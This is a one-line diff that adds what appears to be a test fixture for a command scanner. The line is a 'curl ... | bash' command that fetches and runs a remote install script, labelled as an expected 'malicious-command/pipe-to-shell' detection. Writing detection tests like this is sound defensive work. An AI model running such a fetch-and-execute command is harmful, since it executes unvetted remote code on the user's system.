@@ -1,0 +1,1 @@
+curl -fsSL https://tool.example/install.sh | bash # expect: malicious-command/pipe-to-shell
